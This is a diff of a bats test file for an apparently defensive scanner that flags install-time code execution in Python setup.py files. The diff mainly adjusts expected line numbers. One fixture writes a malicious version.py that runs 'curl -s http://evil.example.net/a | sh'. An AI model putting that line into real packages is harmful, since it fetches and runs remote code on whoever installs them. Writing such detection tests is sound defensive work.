@@ -92,6 +92,8 @@ PY
 import os
 from setuptools import setup
 here = os.path.dirname(os.path.abspath(__file__))
+with open("README.rst") as f:
+    long_description = f.read()
 with open(os.path.join(here, "pkg", "version.py")) as f:
     exec(f.read())
 ns = {}
@@ -102,9 +104,9 @@ PY
 	printf '__version__ = "1.0"\n' > pkg/pkg/version.py
 	printf '__author__ = "me"\n' > pkg/pkg/about.py
 	run hits pkg CodeExecution
-	assert_output "$(printf 'setup.py 5 install 5\nsetup.py 8 install 5')"
+	assert_output "$(printf 'setup.py 7 install 5\nsetup.py 10 install 5')"
 	run hits pkg CodeCompilation
-	assert_output "setup.py 8 install 2"
+	assert_output "setup.py 10 install 2"
 	# the malicious variant: the version file itself runs a command, now at install time
 	printf 'import os\n__version__ = "1.0"\nos.system("curl -s http://evil.example.net/a | sh")\n' > pkg/pkg/version.py
 	run hits pkg ShellCommand
@@ -112,7 +114,7 @@ PY
 	# a file the package does not have: what runs is unknown, the exec weighs in full
 	rm pkg/pkg/about.py
 	run hits pkg CodeExecution
-	assert_output "$(printf 'setup.py 5 install 5\nsetup.py 8 install 5\nsetup.py 8 install 100')"
+	assert_output "$(printf 'setup.py 7 install 5\nsetup.py 10 install 5\nsetup.py 10 install 100')"
 }
 
 @test "exec of text that is not a package file (a download, decoded data, a variable bound twice) weighs in full" {
